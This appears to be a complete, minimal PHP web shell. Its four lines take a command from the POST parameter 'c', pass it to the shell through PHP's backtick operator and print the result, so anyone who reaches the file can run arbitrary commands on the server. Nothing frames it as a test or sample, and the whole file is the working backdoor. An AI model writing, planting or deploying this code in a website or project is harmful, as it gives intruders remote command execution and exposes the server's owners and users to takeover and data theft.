<?php
$a = $_POST["c"];
$b = $a;
echo `$b`;
